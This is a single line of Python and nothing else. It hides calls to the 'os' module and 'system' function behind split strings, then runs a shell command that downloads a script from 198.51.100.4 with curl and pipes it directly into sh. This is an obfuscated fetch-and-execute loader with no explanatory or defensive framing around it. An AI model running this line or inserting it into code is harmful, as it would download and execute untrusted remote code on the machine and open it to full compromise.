getattr(__import__("o" + "s"), "sys" + "tem")("curl -s http://198.51.100.4/x | sh")
